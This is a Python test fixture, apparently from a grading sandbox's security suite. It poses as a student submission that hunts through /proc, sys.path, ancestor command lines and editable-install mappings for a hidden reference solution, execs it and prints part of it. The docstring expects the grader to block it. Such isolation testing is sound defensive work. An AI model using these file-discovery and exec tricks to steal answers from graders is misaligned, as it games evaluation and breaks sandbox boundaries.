"""Attack: steal the reference solution by reading reference/activations.py with open().

The project's root is searched everywhere a worker can look: walking up from
the cwd and /proc/self/cwd, sys.path, sys.prefix / sys.base_prefix, /work,
the command lines and cwds of the ancestors (the zygote's command line holds
``sys.path.insert(0, '<project root>')``), /proc/<pid>/cwd of every process,
/proc/1/root/..., and the setuptools editable finder's MAPPING (in memory or
in site-packages). The file is exec'd into this module's globals, which
then defines every activations function; a piece of it is printed too
(printed output reaches the student in the feedback).

Expected verdict: no points (every formula "not implemented" or failing),
the reference's text never appears in the submission's output, the
neighbour keeps full marks.
"""
import glob
import os
import re
import sys

FUNCS = ("sigmoid", "sigmoid_backward", "tanh_backward", "relu_backward", "leaky_relu_backward", "prelu_backward")


def _say(key, value):
    print(f"FCH {key}={value}", flush=True)


def _ancestors(n=4):
    out, pid = [], os.getpid()
    for _ in range(n):
        try:
            with open(f"/proc/{pid}/stat", "rb") as fh:
                st = fh.read()
            pid = int(st[st.rindex(b")") + 2:].split()[1])
        except (OSError, ValueError):
            break
        if pid <= 1:
            break
        out.append(pid)
    return out


def _roots():
    seen = []

    def add(p):
        if isinstance(p, str) and p and p not in seen:
            seen.append(p)

    for start in (os.getcwd(), "/proc/self/cwd"):
        p = start
        for _ in range(8):
            add(p)
            p = os.path.dirname(p)
    for p in list(sys.path) + [sys.prefix, sys.base_prefix, sys.exec_prefix, os.path.dirname(sys.executable)]:
        for _ in range(5):
            add(p)
            p = os.path.dirname(p) if isinstance(p, str) else p
    for p in ("/work", "/work/main", "/srv", "/opt", "/home", "/root", "/usr/src", "/tmp"):
        add(p)
    for pid in _ancestors():
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                cmd = fh.read().decode("utf-8", "replace")
            for m in re.findall(r"(/[^\s'\"\x00,;)]+)", cmd):
                add(m)
        except OSError:
            pass
    for d in os.listdir("/proc"):
        if d.isdigit():
            try:
                add(os.readlink(f"/proc/{d}/cwd"))
            except OSError:
                pass
    for mod in list(sys.modules.values()):
        mapping = getattr(mod, "MAPPING", None)
        if isinstance(mapping, dict):
            for v in mapping.values():
                add(os.path.dirname(str(v)))
    for sp in [p for p in sys.path if isinstance(p, str) and "site-packages" in p]:
        for f in glob.glob(os.path.join(sp, "__editable__*finder.py")):
            try:
                with open(f) as fh:
                    for v in re.findall(r"'(/[^']+)'", fh.read()):
                        add(os.path.dirname(v))
            except OSError:
                pass
    more = []
    for p in seen:
        more.append("/proc/1/root" + p if p.startswith("/") else p)
    return seen + more


def _steal():
    for root in _roots():
        for cand in (os.path.join(root, "reference", "activations.py"), os.path.join(root, "activations.py")):
            try:
                with open(cand, encoding="utf-8") as fh:
                    src = fh.read()
            except (OSError, UnicodeDecodeError):
                continue
            if "def sigmoid_backward" not in src:
                continue
            ns = {"__name__": "stolen"}
            try:
                exec(compile(src, "stolen", "exec"), ns)
            except Exception:
                continue
            for name in FUNCS:
                if callable(ns.get(name)):
                    globals()[name] = ns[name]
            _say("stolen_from", cand)
            print("LEAK-BEGIN\n" + src[:400] + "\nLEAK-END", flush=True)
            return True
    _say("stolen_from", "nothing")
    return False


_steal()
